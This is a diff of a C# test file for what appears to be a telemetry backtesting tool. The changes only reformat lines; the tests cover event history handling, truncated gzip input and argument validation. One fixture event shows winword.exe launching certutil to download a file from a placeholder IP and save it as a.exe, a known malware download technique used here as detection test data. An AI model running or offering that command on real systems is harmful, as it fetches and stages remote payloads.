@@ -34,7 +34,12 @@ public sealed class HistoryTests : IDisposable
     [Fact]
     public async Task What_stands_before_the_first_event_does_not_end_the_learning_time()
     {
-        _folder.Write("events.jsonl", [.. "rubbish\n"u8, .. Telemetry.Record("winword.exe", "certutil.exe", "certutil -urlcache -split -f http://192.0.2.7/a.txt a.exe")]);
+        _folder.Write(
+            "events.jsonl",
+            [
+                .. "rubbish\n"u8,
+                .. Telemetry.Record("winword.exe", "certutil.exe", "certutil -urlcache -split -f http://192.0.2.7/a.txt a.exe"),
+            ]);
 
         (await Terminal.RunAsync(_folder, "backtest", "events.jsonl", "--json", "report.json")).Succeeded();
 
@@ -46,7 +51,9 @@ public sealed class HistoryTests : IDisposable
     [Fact]
     public async Task A_file_that_was_cut_is_refused()
     {
-        var lines = Enumerable.Range(0, 300).SelectMany(i => Telemetry.Record("services.exe", $"tool{i * i}.exe").Append((byte)'\n')).ToArray();
+        var lines = Enumerable.Range(0, 300)
+            .SelectMany(i => Telemetry.Record("services.exe", $"tool{i * i}.exe").Append((byte)'\n'))
+            .ToArray();
         var whole = Scratch.Gzip(lines);
         _folder.Write("cut.jsonl.gz", whole.AsSpan(0, whole.Length - 4));
         _folder.Write("plain.jsonl.gz", lines);
@@ -65,7 +72,8 @@ public sealed class HistoryTests : IDisposable
         await RefusesAsync(["backtest", "empty"], "empty contains no file");
         await RefusesAsync(["backtest", "events.jsonl", "--budget", "20"], "'20' is not a budget", "20/day");
         await RefusesAsync(["backtest", "events.jsonl", "--budget-days", "7"], "pass the budget too", "--budget 20/day");
-        await RefusesAsync(["backtest", "events.jsonl", "--budget", "20/day", "--budget-days", "-1"], "--budget-days must be between 0 and 365");
+        await RefusesAsync(
+            ["backtest", "events.jsonl", "--budget", "20/day", "--budget-days", "-1"], "--budget-days must be between 0 and 365");
         await RefusesAsync(["backtest", "events.jsonl", "--partitions", "0"], "--partitions must be between 1 and 32");
         await RefusesAsync(["backtest", "events.jsonl", "--truth", "events.jsonl"], "events.jsonl, line 1", "no line of a truth file");
         await RefusesAsync(["backtest", "compare", "events.jsonl", "events.jsonl"], "events.jsonl is not a backtest report");
@@ -73,5 +81,6 @@ public sealed class HistoryTests : IDisposable
 
     public void Dispose() => _folder.Dispose();
 
-    private async Task RefusesAsync(string[] arguments, params string[] parts) => (await Terminal.RunAsync(_folder, arguments)).RefusedWith(parts);
+    private async Task RefusesAsync(string[] arguments, params string[] parts) =>
+        (await Terminal.RunAsync(_folder, arguments)).RefusedWith(parts);
 }
